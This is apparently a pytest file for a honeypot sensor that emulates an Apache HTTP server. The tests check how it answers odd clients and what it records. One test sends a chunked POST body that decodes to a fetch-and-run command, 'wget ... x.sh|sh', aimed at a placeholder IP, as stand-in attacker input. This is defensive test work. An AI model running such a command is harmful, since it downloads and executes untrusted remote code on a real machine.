"""The HTTP service over raw sockets: what odd clients get back and what the sensor records."""

from __future__ import annotations

import hashlib
import socket

from honeyguard.config import Limits
from honeyguard.model import HttpRequest, RawData
from tests.sensor.http_helpers import exchange, statuses


def test_pipelined_requests_are_answered_in_order(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"])
    port = sensor.port("http")
    data = (b"GET / HTTP/1.1\r\nHost: a\r\n\r\n"
            b"GET /missing HTTP/1.1\r\nHost: a\r\n\r\n"
            b"GET /.htpasswd HTTP/1.1\r\nHost: a\r\nConnection: close\r\n\r\n")
    response = exchange(port, data, half_close=False)
    assert statuses(response) == [200, 404, 403]
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    requests = [e.body for e in events if isinstance(e.body, HttpRequest)]
    assert [(r.target, r.status) for r in requests] == [("/", 200), ("/missing", 404), ("/.htpasswd", 403)]
    assert requests[0].headers == [("Host", "a")]
    closed = next(e.body for e in events if e.kind == "session.closed")
    assert closed.reason == "client-closed"  # type: ignore[union-attr]
    assert closed.bytes_in == len(data) and closed.bytes_out == len(response)  # type: ignore[union-attr]


def test_error_page_names_the_host_and_port_asked_for(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"])
    response = exchange(sensor.port("http"), b"GET /admin HTTP/1.1\r\nHost: shop.example:8081\r\n\r\n")
    assert b"<address>Apache/2.4.52 (Ubuntu) Server at shop.example Port 8081</address>" in response
    head, _, body = response.partition(b"\r\n\r\n")
    assert f"Content-Length: {len(body)}".encode() in head


def test_tls_clienthello_on_a_plain_port(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"])
    hello = bytes.fromhex("160301002e0100002a") + bytes(range(42))  # a ClientHello record: 5 + 0x2e bytes
    response = exchange(sensor.port("http"), hello)
    assert response.startswith(b"HTTP/1.1 400 Bad Request\r\n")
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    raw = [e.body for e in events if isinstance(e.body, RawData)]
    assert len(raw) == 1 and raw[0].reason == "tls-clienthello"
    assert raw[0].data == hello[:51] and raw[0].sha256 == hashlib.sha256(hello[:51]).hexdigest()


def test_binary_protocol_is_not_http(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"])
    probe = b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00"  # RDP
    response = exchange(sensor.port("http"), probe, half_close=False)
    assert statuses(response) == [400]
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert [e.body.reason for e in events if isinstance(e.body, RawData)] == ["not-http"]


def test_malformed_requests_get_apache_400_and_are_recorded(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"])
    port = sensor.port("http")
    no_host = exchange(port, b"GET / HTTP/1.1\r\nUser-Agent: x\r\n\r\n")
    assert statuses(no_host) == [400] and b"Connection: close\r\n" in no_host
    bad_length = exchange(port, b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 12x\r\n\r\nabc")
    assert statuses(bad_length) == [400]
    events = sensor.sink.wait_for(lambda evs: sum(e.kind == "session.closed" for e in evs) == 2)
    assert sorted(e.body.status for e in events if isinstance(e.body, HttpRequest)) == [400, 400]


def test_http09_request_gets_a_bare_body(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"])
    response = exchange(sensor.port("http"), b"GET /\r\n\r\n")
    assert response.startswith(b"\n<!DOCTYPE html") and b"It works" in response
    events = sensor.sink.wait_for(lambda evs: any(isinstance(e.body, HttpRequest) for e in evs))
    request = next(e.body for e in events if isinstance(e.body, HttpRequest))
    assert (request.version, request.status) == ("", 200)


def test_one_megabyte_body_is_hashed_whole_and_kept_capped(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"], limits=Limits(keep_body_bytes=4096))
    body = hashlib.sha256(b"seed").digest() * (1024 * 1024 // 32)
    head = b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body)
    response = exchange(sensor.port("http"), head + body)
    assert statuses(response) == [200]
    events = sensor.sink.wait_for(lambda evs: any(isinstance(e.body, HttpRequest) for e in evs))
    request = next(e.body for e in events if isinstance(e.body, HttpRequest))
    assert request.body_size == len(body) and request.body_sha256 == hashlib.sha256(body).hexdigest()
    assert request.body == body[:4096] and request.body_truncated


def test_chunked_body(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"])
    data = (b"POST /upload.php HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
            b"4\r\nwget\r\n1b\r\n http://203.0.113.9/x.sh|sh\r\n0\r\n\r\n")
    assert statuses(exchange(sensor.port("http"), data)) == [404]
    events = sensor.sink.wait_for(lambda evs: any(isinstance(e.body, HttpRequest) for e in evs))
    request = next(e.body for e in events if isinstance(e.body, HttpRequest))
    assert request.body == b"wget http://203.0.113.9/x.sh|sh" and not request.body_truncated


def test_body_over_the_request_cap_cuts_the_connection(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"], limits=Limits(max_request_bytes=100_000, keep_body_bytes=100))
    head = b"POST / HTTP/1.1\r\nHost: h\r\nContent-Length: 300000\r\n\r\n"
    exchange(sensor.port("http"), head + b"A" * 300_000)
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    request = next(e.body for e in events if isinstance(e.body, HttpRequest))
    assert (request.status, request.body_size) == (413, 100_000)
    assert request.body_sha256 == hashlib.sha256(b"A" * 100_000).hexdigest()
    assert [e.body.reason for e in events if e.kind == "session.closed"] == ["cap-bytes"]  # type: ignore[union-attr]


def test_oversized_head(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"], limits=Limits(max_buffer_bytes=4096))
    data = b"GET / HTTP/1.1\r\nHost: h\r\nCookie: " + b"a" * 20_000
    response = exchange(sensor.port("http"), data, half_close=False)
    assert statuses(response) == [400]
    assert b"Size of a request header field exceeds server limit." in response
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    raw = [e.body for e in events if isinstance(e.body, RawData)]
    assert [r.reason for r in raw] == ["oversized-head"] and raw[0].size > 4096
    assert [e.body.reason for e in events if e.kind == "session.closed"] == ["cap-bytes"]  # type: ignore[union-attr]


def test_requests_per_connection_cap(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"], limits=Limits(max_commands=3))
    response = exchange(sensor.port("http"), b"GET / HTTP/1.1\r\nHost: h\r\n\r\n" * 5, half_close=False)
    assert statuses(response) == [200, 200, 200]
    assert response.count(b"Connection: close\r\n") == 1
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert sum(isinstance(e.body, HttpRequest) for e in events) == 3
    unread = [e.body for e in events if isinstance(e.body, RawData)]  # kept as evidence, unanswered
    assert [(r.reason, r.size) for r in unread] == [("unknown", 2 * len(b"GET / HTTP/1.1\r\nHost: h\r\n\r\n"))]
    assert [e.body.reason for e in events if e.kind == "session.closed"] == ["cap-requests"]  # type: ignore[union-attr]


def test_apache_keep_alive_countdown(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"])
    response = exchange(sensor.port("http"), b"HEAD / HTTP/1.1\r\nHost: h\r\n\r\n" * 3 +
                        b"HEAD / HTTP/1.1\r\nHost: h\r\nConnection: close\r\n\r\n", half_close=False)
    assert [m for m in response.split() if m.startswith(b"max=")] == [b"max=100", b"max=99", b"max=98"]
    assert b"It works" not in response  # HEAD: no bodies


def test_idle_client_is_cut(make_sensor) -> None:  # type: ignore[no-untyped-def]
    sensor = make_sensor(["http"], limits=Limits(idle_timeout=0.5))
    with socket.create_connection(("127.0.0.1", sensor.port("http")), timeout=30) as sock:
        assert sock.recv(100) == b""  # the sensor closed it
    events = sensor.sink.wait_for(lambda evs: any(e.kind == "session.closed" for e in evs))
    assert [e.body.reason for e in events if e.kind == "session.closed"] == ["idle-timeout"]  # type: ignore[union-attr]
